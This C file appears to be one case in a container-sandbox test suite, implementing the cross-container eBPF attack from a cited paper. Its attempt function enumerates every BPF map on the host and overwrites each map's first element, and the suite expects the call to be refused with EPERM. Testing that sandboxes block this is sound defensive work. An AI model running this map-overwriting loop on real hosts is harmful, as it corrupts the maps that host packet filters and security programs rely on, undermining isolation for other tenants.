// SPDX-License-Identifier: GPL-2.0-only
/*
 * BPF objects have no namespace: with the capability, any map of the host is
 * found by counting, and what the host's programs decide by is rewritten. He
 * et al., "Cross Container Attacks: The Bewildered eBPF on Clouds", USENIX
 * Security 2023.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/bpf.h>
#include <linux/capability.h>

#include "escape.h"
#include "tap.h"

static int map = -1;

static int bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static int element(int cmd, int fd, uint64_t *value)
{
	uint32_t key = 0;
	union bpf_attr attr = {
		.map_fd = fd, .key = (uintptr_t)&key, .value = (uintptr_t)value,
	};

	return bpf(cmd, &attr);
}

/* What a host's packet filter would look into. */
static void make_map(struct args *a)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8,
		.max_entries = 1, .map_name = "bh_allowed",
	};

	(void)a;
	map = bpf(BPF_MAP_CREATE, &attr);
	if (map < 0)
		bail("make a map: %m");
}

static int attempt(const struct args *a)
{
	union bpf_attr next = { 0 }, by_id = { 0 };
	uint64_t value = SPOILT_WORD;
	int fd, found = 0;

	(void)a;
	while (!bpf(BPF_MAP_GET_NEXT_ID, &next)) {
		by_id.map_id = next.start_id = next.next_id;
		fd = bpf(BPF_MAP_GET_FD_BY_ID, &by_id);
		if (fd >= 0 && !element(BPF_MAP_UPDATE_ELEM, fd, &value))
			found++;
		close(fd);
	}
	return found ? 0 : errno;
}

static bool rewritten(void)
{
	uint64_t value = 0;

	if (element(BPF_MAP_LOOKUP_ELEM, map, &value))
		bail("look a map up: %m");
	return value == SPOILT_WORD;
}

static void drop_map(void)
{
	close(map);
}

const struct escape bpf_map[] = {
	{ "the host's BPF maps by number", { .caps = CAP(CAP_SYS_ADMIN) }, make_map,
	  .attempt = attempt, .escaped = rewritten, .restore = drop_map,
	  .error = EPERM, .act = BULKHEAD_ACT_BPF, .rule = "preset bpf" },
	{ NULL }
};
